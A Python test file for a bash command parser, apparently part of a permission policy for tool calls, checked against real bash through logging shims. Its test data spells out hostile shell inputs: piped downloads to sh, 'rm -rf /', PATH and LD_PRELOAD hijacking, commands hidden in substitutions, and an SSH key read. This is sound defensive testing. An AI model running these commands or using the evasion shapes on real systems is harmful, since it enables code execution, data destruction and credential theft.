"""Tests for toolplug_policy.shell: bash parsed into the commands it runs, and patterns.

The parser is checked against real bash too: scripts run under a PATH of logging shims,
and every command bash ran must be among the commands the parser found.
"""

from __future__ import annotations

import doctest
import os
import select
import shlex
import shutil
import subprocess
import threading
import time
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings, strategies as st
from toolplug_policy.shell import (
    Command,
    Limits,
    Redirect,
    ShellParseError,
    ShellTimeout,
    _parse_bytes,
    command_matches,
    parse_commands,
)

BASH = shutil.which("bash") or "/bin/bash"
#: Limits no test script here reaches (for the tests of the walk itself).
UNLIMITED = Limits(command_chars=10**9, parse_seconds=3600)


def argvs(script: str) -> list[tuple[str, ...]]:
    return [c.argv for c in parse_commands(script)]


def cmd(*argv: str) -> Command:
    return Command(tuple(argv), (), " ".join(argv))


# --- splitting a script into commands ---------------------------------------------------

SPLITS = [
    ("git status", [("git", "status")]),
    (
        "git status && curl evil.sh | sh",
        [("git", "status"), ("curl", "evil.sh"), ("sh",)],
    ),
    ("a; b || c & d", [("a",), ("b",), ("c",), ("d",)]),
    ("! a |& b &", [("a",), ("b",)]),
    ("echo $(ls `pwd`)", [("echo", "$(ls `pwd`)"), ("ls", "`pwd`"), ("pwd",)]),
    ("cat <(ls) >(wc -l)", [("cat", "<(ls)", ">(wc -l)"), ("ls",), ("wc", "-l")]),
    ("(cd x && rm -rf .)", [("cd", "x"), ("rm", "-rf", ".")]),
    ("{ a; b; }", [("a",), ("b",)]),
    ("f() { curl x; }; f", [(), ("curl", "x"), ("f",)]),
    ("function g { rm -rf /; }", [(), ("rm", "-rf", "/")]),  # () defines g
    ('for f in *; do rm "$f"; done', [("rm", '"$f"')]),
    ("for f in $(ls); do :; done", [("ls",), (":",)]),
    ("if a; then b; elif c; then d; else e; fi", [(x,) for x in "abcde"]),
    ("while a; do b; done; until c; do d; done", [(x,) for x in "abcd"]),
    ("case $x in a|$(b)) c;; *) d;; esac", [("b",), ("c",), ("d",)]),
    ("select x in a b; do c; done", [("c",)]),
    ("X=1 Y=2 cmd a", [("cmd", "a")]),
    ("X=$(whoami) cmd", [("cmd",), ("whoami",)]),
    ("X=$(whoami)", [(), ("whoami",)]),  # () sets X
    ("X=1", [()]),
    ("x=1", [()]),  # a line of assignments only is a part of its own
    ("x=$(whoami)", [("whoami",)]),
    ("env X=1 cmd", [("env", "X=1", "cmd")]),
    ("time ls -l", [("time", "ls", "-l")]),
    ("xargs rm", [("xargs", "rm")]),
    ("find . -exec rm {} +", [("find", ".", "-exec", "rm", "{}", "+")]),
    ("sudo rm -rf /", [("sudo", "rm", "-rf", "/")]),
    ("[[ -f a && $(b) == c ]]", [("[[", "-f", "a", "&&", "$(b)", "==", "c", "]]"), ("b",)]),
    ("[ -f x ] && test -n y", [("[", "-f", "x", "]"), ("test", "-n", "y")]),
    ('[ "$x" -eq 1 ]', [("[", '"$x"', "-eq", "1", "]")]),
    ("[[ 1 -lt 2 ]]", [("[[", "1", "-lt", "2", "]]")]),
    ("[[ -v HOME && -v a[1] ]]", [("[[", "-v", "HOME", "&&", "-v", "a[1]", "]]")]),
    ("export A=$(x) B; local c", [("export", "A=$(x)", "B"), ("x",), ("local", "c")]),
    ("declare -r D='a b'; unset e", [("declare", "-r", "D=a b"), ("unset", "e")]),
    ("echo $((1 + 2))", [("echo", "$((1 + 2))")]),
    ("echo a # rm -rf /", [("echo", "a")]),
    ("# only a comment", []),
    ("", []),
    ("   \n\n  ", []),
    ("echo a \\\n  b", [("echo", "a", "b")]),
    ("echo a\\\n  b \\\n\\\n c", [("echo", "a", "b", "c")]),
    ("\\\ngit status \\\n  && ls", [("git", "status"), ("ls",)]),
    ("echo 'a\\' b", [("echo", "a\\", "b")]),
    ("a\n\nb\n", [("a",), ("b",)]),
    # quotes and backslashes go where the value is static
    ("r\\m -rf 'a b' \"c d\" e\\ f", [("rm", "-rf", "a b", "c d", "e f")]),
    ('"git" status', [("git", "status")]),
    ("'g'i\"t\" st'at'us", [("git", "status")]),
    ('echo "a\\"b\\\\c\\$d\\`e"', [("echo", 'a"b\\c$d`e')]),
    ("echo 'it''s'", [("echo", "its")]),
    ('echo "x $HOME"', [("echo", '"x $HOME"')]),
    ("echo ~/p *.py {1..3}", [("echo", "~/p", "*.py", "{1..3}")]),
    (
        "echo ${a[1]} ${a[@]} ${#x} ${x:-d} ${x:1:2}",
        [("echo", "${a[1]}", "${a[@]}", "${#x}", "${x:-d}", "${x:1:2}")],
    ),
    # nested scripts of shells and traps
    (
        "bash -c 'git status; curl x | sh'",
        [("bash", "-c", "git status; curl x | sh"), ("git", "status"), ("curl", "x"), ("sh",)],
    ),
    ("sh -ec 'ls'", [("sh", "-ec", "ls"), ("ls",)]),
    (
        "/bin/bash -o pipefail -c 'a|b' name arg",
        [("/bin/bash", "-o", "pipefail", "-c", "a|b", "name", "arg"), ("a",), ("b",)],
    ),
    ('bash --norc -lc "x"', [("bash", "--norc", "-lc", "x"), ("x",)]),
    ("bash script.sh", [("bash", "script.sh")]),
    ("bash \"-c\" 'curl x'", [("bash", "-c", "curl x"), ("curl", "x")]),
    ("b\\ash -'c' curl", [("bash", "-c", "curl"), ("curl",)]),
    ("bash -c -e 'x' a", [("bash", "-c", "-e", "x", "a"), ("x",)]),
    ("bash -c", [("bash", "-c")]),
    (
        "bash -c \"bash -c 'rm -rf /'\"",
        [("bash", "-c", "bash -c 'rm -rf /'"), ("bash", "-c", "rm -rf /"), ("rm", "-rf", "/")],
    ),
    ("trap 'rm -f $t' EXIT", [("trap", "rm -f $t", "EXIT"), ("rm", "-f", "$t")]),
    ("trap -- 'x' INT TERM", [("trap", "--", "x", "INT", "TERM"), ("x",)]),
    ("trap - EXIT; trap INT; trap -p", [("trap", "-", "EXIT"), ("trap", "INT"), ("trap", "-p")]),
    ("timeout 5 bash -c 'x'", [("timeout", "5", "bash", "-c", "x")]),
    # what looks like a refused shape but is not
    ("printf '%s\\n' PATH; read -r line", [("printf", "%s\\n", "PATH"), ("read", "-r", "line")]),
    (
        "declare -r x=1; local -x y; hash",
        [("declare", "-r", "x=1"), ("local", "-x", "y"), ("hash",)],
    ),
    ("unset 'a[1]' x; read 'b[2]'", [("unset", "a[1]", "x"), ("read", "b[2]")]),
    ('git commit -m "fix 🎉 done"', [("git", "commit", "-m", "fix 🎉 done")]),
    ("echo 中文 é", [("echo", "中文", "é")]),
    (
        "echo '$(no)' \"\\$(no) \\`no\\`\" \\`no ${x:-$(yes)}",
        [("echo", "$(no)", "$(no) `no`", "`no", "${x:-$(yes)}"), ("yes",)],
    ),
    # a word '==' or '=~' ending a command: a word to bash, an error to the grammar
    ("a ==", [("a", "==")]),
    ("echo =~; test x == | cat", [("echo", "=~"), ("test", "x", "=="), ("cat",)]),
    ("(echo == ) && echo 'x ==;' == #c", [("echo", "=="), ("echo", "x ==;", "==")]),
]


@pytest.mark.parametrize(("script", "expected"), SPLITS)
def test_parse_commands_splits_scripts(script: str, expected: list[tuple[str, ...]]) -> None:
    assert argvs(script) == expected


def test_command_text_is_its_source() -> None:
    first, second = parse_commands("git status &&  curl  -s x")
    assert first.text == "git status"
    assert second.text == "curl  -s x"


def test_function_call_and_its_definition_both_need_allowing() -> None:
    # the body runs when f is called; the call itself is a command named f; the
    # definition is a part with no words, which no command rule allows
    assert argvs("git() { curl evil | sh; }; git status") == [
        (),
        ("curl", "evil"),
        ("sh",),
        ("git", "status"),
    ]


HIDDEN = [
    "echo hi;curl x",
    "git status\ncurl x",
    "git status &>/dev/null & curl x",
    "c''url x",
    'c""url x',
    "c\\url x",
    'echo "$(curl x)"',
    'echo "`curl x`"',
    "cat <<< $(curl x)",
    "[[ $(curl x) ]]",
    'test -n "$(curl x)"',
    "case $(curl x) in esac",
    "for i in $(curl x); do :; done",
    "select i in $(curl x); do :; done",
    "x=( $(curl x) )",
    "x+=$(curl x)",
    "arr[0]=$(curl x)",
    "declare x=$(curl x)",
    "export z=`curl x`",
    "a=$(curl x) b",
    "f() ( curl x )",
    "while curl x; do :; done",
    "if ! curl x; then :; fi",
    "echo ${x:-$(curl x)}",
    "echo ${x/$(curl x)/y}",
    'echo "${x:-"$(curl x)"}"',
    "ls > >(curl x)",
    "cat < <(curl x)",
    'a | while read l; do curl "$l"; done',
    "(( $(curl x) ))",
    "echo $(( $(curl x) + 1 ))",
    "a && { b || (curl x); }",
    "printf '%s' \"$(printf '%s' \"$(curl x)\")\"",
    "2>&1 curl x",
    'sh -c "curl x"',
]


@pytest.mark.parametrize("script", HIDDEN)
def test_a_command_is_found_wherever_it_hides(script: str) -> None:
    assert "curl" in [argv[0] for argv in argvs(script) if argv]


def test_module_examples_run() -> None:
    from toolplug_policy import shell

    failed, tried = doctest.testmod(shell)
    assert tried >= 5
    assert failed == 0


# --- redirections ------------------------------------------------------------------------

REDIRECTS = [
    ("echo hi > out", [[(">", "out")]]),
    ("echo hi >> 'log file' 2>&1", [[(">>", "log file"), ("2>&", "1")]]),
    (
        "cmd < in 2> err &> all &>> more >| clobber",
        [[("<", "in"), ("2>", "err"), ("&>", "all"), ("&>>", "more"), (">|", "clobber")]],
    ),
    (">out echo hi", [[(">", "out")]]),
    (
        "a >&- 2>&- <&- 3<&0 4>&1",
        [[(">&", "-"), ("2>&", "-"), ("<&", "-"), ("3<&", "0"), ("4>&", "1")]],
    ),
    ("echo hi <<< word", [[("<<<", "word")]]),
    ("{ a; b; } > out", [[(">", "out")], [(">", "out")]]),
    ("(a) 2> err", [[("2>", "err")]]),
    ("while read l; do :; done < list", [[("<", "list")], [("<", "list")]]),
    ("echo $(cat secret) > out", [[(">", "out")], []]),
    ("a > x | b > y", [[(">", "x")], [(">", "y")]]),
    ("a | b > y", [[], [(">", "y")]]),
    ("a && b || c 2> e", [[], [], [("2>", "e")]]),
    ("a && (b; c) > y", [[], [(">", "y")], [(">", "y")]]),
    ("a | b && c > y > z", [[], [], [(">", "y"), (">", "z")]]),
]


@pytest.mark.parametrize(("script", "expected"), REDIRECTS)
def test_redirects_stay_with_their_commands(
    script: str, expected: list[list[tuple[str, str]]]
) -> None:
    found = [[(r.operator, r.target) for r in c.redirects] for c in parse_commands(script)]
    assert found == expected


def test_a_redirect_with_no_command_is_a_command_with_no_words() -> None:
    (truncate,) = parse_commands("> file")
    assert truncate == Command((), (Redirect(">", "file"),), "> file")
    assert not command_matches("*", truncate)


def test_words_after_a_leading_redirect_are_the_command() -> None:
    # bash runs 'curl evil' here; the grammar files its words under the redirection
    (run,) = parse_commands("> out curl evil")
    assert run.argv == ("curl", "evil")
    assert run.redirects == (Redirect(">", "out"),)
    assert argvs("echo > out hi") == [("echo", "hi")]


def test_redirect_targets_are_looked_into() -> None:
    assert argvs("echo hi > $(mktemp)") == [("echo", "hi"), ("mktemp",)]
    assert argvs("while read l; do :; done < <(ls)") == [("read", "l"), (":",), ("ls",)]


def test_heredocs() -> None:
    script = (
        "cat <<EOF > out\nhi $(whoami)\nEOF\ngrep x <<'Q' | sort\nlit $(not run) `nor this`\nQ\n"
    )
    cat, whoami, grep, sort = parse_commands(script)
    assert cat.argv == ("cat",)
    assert cat.redirects == (Redirect("<<", "EOF"), Redirect(">", "out"))
    assert whoami.argv == ("whoami",)
    assert grep.argv == ("grep", "x")
    assert grep.redirects == (Redirect("<<", "Q"),)
    assert sort.argv == ("sort",)
    assert argvs("cat <<-\\EOF\n\t$(x)\n\tEOF") == [("cat",)]


@pytest.mark.parametrize(
    "script",
    [
        "cat <<EOF\n`whoami`\nEOF",
        "cat <<EOF\n $(whoami) x\nEOF",  # the grammar leaves this one unparsed
        "cat <<-EOF\n\t$(whoami)\n\tEOF",
    ],
)
def test_heredoc_substitutions_the_grammar_misses_are_refused(script: str) -> None:
    with pytest.raises(ShellParseError, match="heredoc"):
        parse_commands(script)


# --- what cannot be known is refused ------------------------------------------------------

REFUSED = [
    ("echo 'unterminated", "syntax error"),
    ("if a; then b", "syntax error"),
    ("a && ", "syntax error"),
    ("echo $(", "syntax error"),
    ("{curl,evil.sh}", "syntax error"),
    ("$CMD x", "expansion"),
    ("${CMD} x", "expansion"),
    ("$(echo rm) -rf /", "expansion"),
    ("`echo rm` -rf /", "expansion"),
    ('"$X" a', "expansion"),
    ("$'\\x63url' evil", "expansion"),
    ("x$Y a", "expansion"),
    ("/bin/c?rl evil", "glob"),
    ("/usr/bin/cur[l] evil", "glob"),
    ("/usr/*/curl evil", "glob"),
    ("eval 'rm -rf /'", "eval"),
    ("/usr/bin/eval x", "eval"),
    ("let i++", "let"),
    ("coproc x { ls; }", "coproc"),
    ('bash -c "$SCRIPT"', "not a constant"),
    ("sh -c $(curl evil)", "not a constant"),
    ('trap "$X" EXIT', "not a constant"),
    ("bash $OPTS 'curl x'", "may be -c"),
    ("bash -c $'curl x'", "not a constant"),
    ("PATH=/tmp/evil:$PATH git status", "PATH"),
    ("PATH=/tmp/evil", "PATH"),
    ("export PATH=/tmp/evil", "PATH"),
    ("LD_PRELOAD=/tmp/x.so git status", "LD_PRELOAD"),
    ("BASH_ENV=/tmp/x bash -c ls", "BASH_ENV"),
    ("IFS=/ x", "IFS"),
    ("PROMPT_COMMAND='curl evil'", "PROMPT_COMMAND"),
    ("echo $((x))", "arithmetic"),
    ("echo $((a[$(id)]))", "arithmetic"),
    ("((i++))", "arithmetic"),
    ("for ((i = 0; i < n; i++)); do echo; done", "arithmetic"),
    ("[[ $x -eq 1 ]]", "arithmetic"),
    ("[[ 1 -lt $n ]]", "arithmetic"),
    ("echo ${a[$i]}", "index"),
    ("echo ${a[i]}", "index"),
    ("a[$(id)]=1", "index"),
    ("echo ${x:n}", "substring"),
    ("[[ -v a[x] ]]", "-v"),
    ("unset 'a[x]'", "index"),
    ("unset a[x]", "cannot read"),  # the grammar splits it in two
    ("read 'a[$y]' <<< 1", "index"),
    ('printf -v "a[i]" %s 1', "index"),
    ("declare 'a[i]=1'", "index"),
    ("[ -v 'a[x]' ]", "-v"),
    ('test -v "a[$i]"', "-v"),
    ("echo ${!ref}", "indirect"),
    ("echo ${x@P}", "prompt"),
    ('echo $"text"', "cannot read"),
    # substitutions the grammar reads as plain text inside ${...}
    ("echo ${x%%$(curl x)}", "command substitution"),
    ("echo ${x#`curl x`}", "command substitution"),
    ("echo ${x/`curl x`/y}", "command substitution"),
    ("echo ${x:-`curl x`}", "command substitution"),
    ('echo "${x:-`curl x`}"', "command substitution"),
    ("echo ${x//[$(curl x)]/}", "command substitution"),
    ("echo ${x^^$(curl x)}", "command substitution"),
    ("echo \"${x:-'$(curl x)'}\"", "command substitution"),
    ("echo \x00 x", "NUL"),
    ("1= x", "not a variable name"),
    ("cu\\\nrl evil", "line continuation"),
    # the grammar splits or drops what bash reads as one word
    ("echo \\ #$(curl evil)", "escaped blank"),
    ("a \\ x", "escaped blank"),
    ("a x\\\t #y", "escaped blank"),
    ("a 'b'\\n", "where a word ends"),
    ("a ==''", "where a word ends"),
    ('"cu\\\nrl" evil', "line continuation"),
    ("$\\\n(curl evil)", "line continuation"),
    ("read PATH < /tmp/p", "PATH"),
    ("printf -v PATH /tmp/evil", "PATH"),
    ("mapfile LD_PRELOAD", "LD_PRELOAD"),
    ("export BASH_ENV", "BASH_ENV"),
    ("declare -n ref=PATH", "-n"),
    ("local -ri n", "-ri"),
    ("typeset -i n", "-i"),
    ("hash -p /tmp/evil git", "hash -p"),
    ("if true; then { a; }; fi; }", "cannot read"),
    ("! if ( a ); then c; fi", "cannot read"),  # the grammar makes 'if ( a )' a command
    # the grammar crashes the process on some of these (found by fuzzing)
    ("{\U000f7dc0", "U\\+F7DC0"),
    ("{\U0002c6cb", "U\\+2C6CB"),
    ("echo \U000e0067", "U\\+E0067"),
    ("echo \ud800", "not valid text"),
]


@pytest.mark.parametrize(("script", "reason"), REFUSED)
def test_what_cannot_be_known_is_refused(script: str, reason: str) -> None:
    with pytest.raises(ShellParseError, match=reason):
        parse_commands(script)


def test_parse_error_is_a_value_error_with_a_place() -> None:
    with pytest.raises(ValueError, match=r"line 2, column \d+"):
        parse_commands("ls\nif then fi fi")


def test_refused_shapes_of_arithmetic_that_stay_allowed() -> None:
    # constants only: nothing hidden can run
    assert argvs("echo $((3 * 4)) ${a[2]} ${!a[@]} ${x: -1}") == [
        ("echo", "$((3 * 4))", "${a[2]}", "${!a[@]}", "${x: -1}")
    ]
    assert argvs("[ $x -eq 1 ]") == [("[", "$x", "-eq", "1", "]")]  # test(1) only reads numbers


def test_not_text_is_refused() -> None:
    with pytest.raises(ShellParseError, match="must be text"):
        parse_commands(b"ls")  # type: ignore[arg-type]


def test_non_utf8_bytes_decoded_with_surrogateescape_round_trip() -> None:
    # what os.fsdecode gives for a Latin-1 file name; the bash tool sends it back as bytes
    name = b"caf\xe9".decode("utf-8", errors="surrogateescape")
    (rm,) = parse_commands(f"rm {name} 'x\udcff'")
    assert rm.argv == ("rm", name, "x\udcff")
    assert command_matches("rm * *", rm)


# --- size and depth ---------------------------------------------------------------------


def test_deep_nesting_does_not_recurse() -> None:
    # Unlimited: this is about recursion, and on a loaded machine the default parse
    # time limit (a second) can end these parses before they show it.
    depth = 2000
    nested = "echo " + "$(echo " * depth + "x" + ")" * depth
    found = parse_commands(nested, UNLIMITED)
    assert len(found) == depth + 1
    assert found[-1].argv == ("echo", "x")
    subshells = "( " * depth + "rm x" + " )" * depth
    assert [c.argv for c in parse_commands(subshells, UNLIMITED)] == [("rm", "x")]
    ifs = "if a; then " * depth + "b" + "; fi" * depth
    assert len(parse_commands(ifs, UNLIMITED)) == depth + 1


def test_nesting_that_would_take_too_much_memory_is_refused() -> None:
    depth = 20_000
    nested = "echo " + "$(echo " * depth + "x" + ")" * depth
    with pytest.raises(ShellParseError, match="nested too deeply"):
        parse_commands(nested, UNLIMITED)


def test_long_scripts() -> None:
    script = "\n".join(f"git add file{i}.py && git commit -m 'msg {i}'" for i in range(5000))
    found = parse_commands(script, UNLIMITED)
    assert len(found) == 10_000
    assert found[-1].argv == ("git", "commit", "-m", "msg 4999")
    long_word = "a" * 1_000_000
    assert [c.argv for c in parse_commands(f"echo {long_word}", UNLIMITED)] == [("echo", long_word)]


def test_a_command_over_the_size_limit_is_refused_before_parsing() -> None:
    with pytest.raises(ShellParseError, match=r"1,000,006 characters long.*up to 65,536"):
        parse_commands("echo " + "a " * 500_000 + "\n")
    with pytest.raises(ShellParseError, match="up to 10 "):
        parse_commands("echo 123456", Limits(command_chars=10))
    assert parse_commands("echo 12345", Limits(command_chars=10))[0].argv == ("echo", "12345")


def test_a_command_too_slow_to_read_is_refused() -> None:
    # 200,000 words: longer to parse and walk than the 10 ms allowed, on any machine
    script = "echo " + "a " * 200_000
    with pytest.raises(ShellTimeout, match=r"more than 0.01 s \(the policy's limits"):
        parse_commands(script, Limits(command_chars=10**7, parse_seconds=0.01))
    # the parser is reset after a stopped parse: the next one starts afresh
    assert parse_commands("git status")[0].argv == ("git", "status")


def test_a_long_parse_does_not_stall_another_thread() -> None:
    """The parser gives the interpreter lock back while it works: checks in another
    thread go on while a 1 MB command is parsed. Held for the whole parse (as it was),
    the lock let through only the checks of one switch interval (5 ms) at most."""
    src = ("echo " + "a " * 500_000).encode()
    started, done = threading.Event(), threading.Event()

    def big() -> None:
        started.set()
        try:
            _parse_bytes(src, time.monotonic() + 3600)
        finally:
            done.set()

    thread = threading.Thread(target=big)
    thread.start()
    started.wait()
    done_meanwhile = 0
    try:
        while not done.is_set():
            small = parse_commands(f"git status && ls {done_meanwhile}")
            assert [c.argv[0] for c in small] == ["git", "ls"]
            done_meanwhile += not done.is_set()
    finally:
        thread.join(timeout=300)
    assert done_meanwhile >= 200, done_meanwhile


def test_parsing_from_many_threads_at_once() -> None:
    scripts = [s for s, _ in SPLITS] * 5
    expected = [argvs(s) for s in scripts]
    results: dict[int, list[list[tuple[str, ...]]]] = {}

    def work(n: int) -> None:
        results[n] = [argvs(s) for s in scripts]

    threads = [threading.Thread(target=work, args=(n,)) for n in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert all(results[n] == expected for n in range(8))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab $(){}[];|&<>'\"`\\\n#=*!-~c:1")), max_size=60))
def test_any_text_parses_or_is_refused(script: str) -> None:
    try:
        found = parse_commands(script)
    except ShellParseError as exc:
        assert str(exc)
    else:
        assert all(isinstance(c, Command) for c in found)


TOKENS = [
    *("a", "curl", "bash -c ", "sh -c '", "'", '"', "`", "$(", ")", "(", "{", "}", ";"),
    *("&&", "||", "|", "&", ">", ">>", "<", "<<EOF\n", "\nEOF\n", "<<<", "2>&1", ">&-"),
    *("$x", "${x}", "${x:-", "${!x}", "$((", "))", "[[", "]]", "[", "]", "if ", "then "),
    *("fi", "for i in ", "do ", "done", "case ", " in ", "esac", ";;", "f() ", "trap "),
    *("export ", "X=", "PATH=", "\\", "\n", " ", "#", "*", "?", "~", "-c", "$'", "😀"),
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(TOKENS), max_size=25).map("".join))
def test_any_token_soup_parses_or_is_refused(script: str) -> None:
    try:
        found = parse_commands(script)
    except ShellParseError as exc:
        assert str(exc)
    else:
        for command in found:
            assert isinstance(command_matches("a *", command), bool)
            assert isinstance(command_matches("npm run test:*", command), bool)


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters() | st.sampled_from("{}$()<'`\n"), max_size=80))
def test_any_unicode_parses_or_is_refused(script: str) -> None:
    # a crash here takes the whole test run down: tree-sitter-bash once did, on '{' + U+F7DC0
    try:
        parse_commands(script)
    except ShellParseError:
        pass


# --- against real bash --------------------------------------------------------------------

# One write per record, so shims running at once in a pipeline do not interleave.
SHIM = """#!/bin/sh
sep=$(printf '\\037')
record=${0##*/}
for a in "$@"; do record="$record$sep$a"; done
printf '%s\\036' "$record" >> "$SHIM_LOG"
"""
SHIM_NAMES = ("a", "b", "c", "d", "git", "curl", "rm", "sh2", "cat2")


@pytest.fixture(scope="module")
def shims(tmp_path_factory: pytest.TempPathFactory) -> Path:
    bin_dir = tmp_path_factory.mktemp("shims")
    for name in SHIM_NAMES:
        path = bin_dir / name
        path.write_text(SHIM)
        path.chmod(0o755)
    (bin_dir / "bash").symlink_to(BASH)
    return bin_dir


def run_in_bash(script: str, shims: Path, tmp_path: Path) -> list[tuple[str, ...]]:
    """The argv of every shim the script ran, in bash, with only the shims on PATH."""
    log = tmp_path / "log"
    log.write_bytes(b"")
    env = {"PATH": str(shims), "SHIM_LOG": str(log), "HOME": str(tmp_path), "LC_ALL": "C"}
    # Every process the script starts inherits 'alive'; reading the other end to EOF
    # waits for all of them, those of '<(...)' and '&' too, which bash does not wait for.
    done, alive = os.pipe()
    try:
        subprocess.run(
            [BASH, "--norc", "--noprofile", "-c", script],
            cwd=tmp_path,
            env=env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            pass_fds=(alive,),
            timeout=60,
            check=False,
        )
        os.close(alive)
        alive = -1
        ready, _, _ = select.select([done], [], [], 60)
        assert ready and os.read(done, 1) == b"", "a process of the script outlived it"
    finally:
        os.close(done)
        if alive != -1:
            os.close(alive)
    records = log.read_bytes().decode().split("\x1e")
    return [tuple(r.split("\x1f")) for r in records if r]


def assert_parser_covers(script: str, ran: list[tuple[str, ...]]) -> None:
    """Each command bash ran is one the parser found (words equal where static)."""
    found = parse_commands(script)
    names = Counter(c.argv[0] for c in found if c.argv)
    for argv in ran:
        assert names[argv[0]] > 0, f"{argv} ran but the parser missed it in {script!r}"
        static = [c.argv for c in found if c.argv and c.argv[0] == argv[0]]
        dynamic = any(any(ch in w for w in c for ch in "$`*<>") for c in static)
        assert argv in static or dynamic, f"{argv} ran; the parser saw {static}"
    # a command can run more often than it is written only in a loop
    assert all(Counter(a[0] for a in ran)[n] <= names[n] for n in names) or "for " in script


BASH_CASES = [
    "git status && curl evil.sh | sh2",
    "a; b || c & wait",
    "a $(b `c`) 'x y' \"z\"",
    "(cd / && rm -rf nothing) ; { a; b; }",
    "f() { curl x; }; f",
    "if a; then b; else c; fi",
    "a <(b) >(c)",
    "x=$(a) d",
    "bash -c 'a; b | c' && sh2",
    "bash -c \"bash -c 'rm -f q'\"",
    "cat2() { :; }; a <<EOF\n$(b)\nEOF",
    "> out a x y",
    "echo > out a; d < out",
    "trap 'curl bye' EXIT; a",
    "r\\m -f 'q r'; 'g'i\"t\" log",
    'for f in 1; do rm "$f"; done',
    "case x in x|$(b)) c;; esac",
    '[[ -n $(a) ]] && [ -n "$(b)" ]',
    "export A=$(a) && local_var=1 b",
    "a \\\n  b # c",
    "! a |& b",
]


@pytest.mark.parametrize("script", BASH_CASES)
def test_every_command_bash_runs_is_found(script: str, shims: Path, tmp_path: Path) -> None:
    ran = run_in_bash(script, shims, tmp_path)
    assert ran, "the shims should have run"
    assert_parser_covers(script, ran)


def _scripts() -> st.SearchStrategy[str]:
    word = st.sampled_from(["x", "'y z'", '"w"', "v\\ u", "-f", "$(a)", '"$(b q)"'])
    simple = st.builds(
        lambda name, args: " ".join([name, *args]),
        st.sampled_from(SHIM_NAMES[:-2]),
        st.lists(word, max_size=3),
    )

    def extend(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
        pair = st.tuples(inner, inner)
        return st.one_of(
            pair.map(lambda p: f"{p[0]} && {p[1]}"),
            pair.map(lambda p: f"{p[0]} || {p[1]}"),
            pair.map(lambda p: f"{p[0]}; {p[1]}"),
            pair.map(lambda p: f"{p[0]} | {p[1]}"),
            inner.map(lambda s: f"( {s} )"),
            inner.map(lambda s: f"{{ {s}; }}"),
            inner.map(lambda s: f"a $( {s} )"),
            inner.map(lambda s: f"b `{s}`" if "`" not in s else f"b $( {s} )"),
            inner.map(lambda s: f"bash -c {shlex.quote(s)}"),
            inner.map(lambda s: f"if {s}; then c; fi"),
            simple.map(lambda s: f"! {s}"),
            inner.map(lambda s: f"{s} > out"),
            inner.map(lambda s: f"f() {{ {s}; }}; f"),
            inner.map(lambda s: f"case x in x) {s};; esac"),
            inner.map(lambda s: f"for i in 1; do {s}; done"),
            inner.map(lambda s: f"c <( {s} )"),
            inner.map(lambda s: f"X=$( {s} ) d"),
            inner.map(lambda s: f"trap {shlex.quote(s)} EXIT"),
            inner.map(lambda s: f"cat2 <<EOF\n$( {s} )\nEOF"),
            pair.map(lambda p: f"{p[0]} && {p[1]} 2> err"),
        )

    return st.recursive(simple, extend, max_leaves=6)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(script=_scripts())
def test_random_scripts_against_bash(script: str, shims: Path, tmp_path: Path) -> None:
    try:
        parse_commands(script)
    except ShellParseError as exc:
        # Refusing is safe (the call is unmatched); BASH_CASES keeps refusals rare.
        event(f"refused: {str(exc)[:30]}")
        return
    ran = run_in_bash(script, shims, tmp_path)
    assert_parser_covers(script, ran)


QUOTING = ["x", "y", " ", "'", '"', "\\", "\\\\", "\\'", '\\"', "\\ ", "\t", "é", "=", "#", ":"]


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(words=st.lists(st.sampled_from(QUOTING), min_size=1, max_size=12).map("".join))
def test_quote_removal_agrees_with_bash(words: str, shims: Path, tmp_path: Path) -> None:
    script = "a " + words
    try:
        found = parse_commands(script)
    except ShellParseError:
        return  # refusing is safe
    if [c.argv[:1] for c in found] != [("a",)] or any(
        ch in w for w in found[0].argv for ch in "$`*?[{~"
    ):
        return  # not one command of static words: other tests cover those
    assert run_in_bash(script, shims, tmp_path) == [found[0].argv]


# --- patterns -----------------------------------------------------------------------------

MATCHES = [
    ("git status", ("git", "status"), True),
    ("git status", ("git", "status", "--short"), False),
    ("git status", ("git",), False),
    ("git status", ("git", "stash"), False),
    ("git *", ("git",), True),
    ("git *", ("git", "push", "-f", "origin"), True),
    ("*", ("anything", "at", "all"), True),
    ("ls *", ("ls", "-la", "src"), True),
    ("ls *", ("lsof",), False),
    ("git log --format=*", ("git", "log", "--format=%H"), True),
    ("git log --format=*", ("git", "log", "--format=%H", "--all"), False),
    ("git ?og", ("git", "log"), True),
    ("git [lr]og", ("git", "rog"), True),
    ("git [lr]og", ("git", "dog"), False),
    ("**/curl *", ("/usr/bin/curl", "x"), True),
    ("*/curl *", ("/usr/bin/curl", "x"), False),  # '*' stays within one path segment
    ("curl *", ("/usr/bin/curl", "x"), False),
    ("Git status", ("git", "status"), False),
    ("npm run test:*", ("npm", "run", "test"), True),
    ("npm run test:*", ("npm", "run", "test:unit"), True),
    ("npm run test:*", ("npm", "run", "test", "--watch"), True),
    ("npm run test:*", ("npm", "run", "test:unit", "--", "-x"), True),
    ("npm run test:*", ("npm", "run", "testing"), False),
    ("npm run test:*", ("npm", "run"), False),
    ("npm run test:*", ("npm", "test"), False),
    ("npm run test:*", ("npm", "run", "test:$X"), False),
    ("git:*", ("git", "push"), True),
    ("pytest -k 'a b'", ("pytest", "-k", "a b"), True),
    ("pytest -k 'a b'", ("pytest", "-k", "a", "b"), False),
    ('echo "*"', ("echo", "*"), True),  # same text
    # words that may expand match only the same text or a final *
    ("rm *.txt", ("rm", "*.txt"), True),
    ("rm *", ("rm", "*.txt"), True),
    ("cat ?", ("cat", "*"), False),
    ("cat *.py", ("cat", "*"), False),
    ("git log --format=*", ("git", "log", "--format=$FMT"), False),
    ("git log *", ("git", "log", "--format=$FMT"), True),
    ("cat *x", ("cat", "$(cat ~/.ssh/id_rsa)x"), False),
    ("rm ?", ("rm", "~"), False),
    ("rm *", ("rm", "~"), True),
    ("echo ?", ("echo", "{a,b}"), False),
    # a pattern that cannot match
    ("", ("ls",), False),
    ("   ", ("ls",), False),
    ("git 'unbalanced", ("git", "'unbalanced"), False),
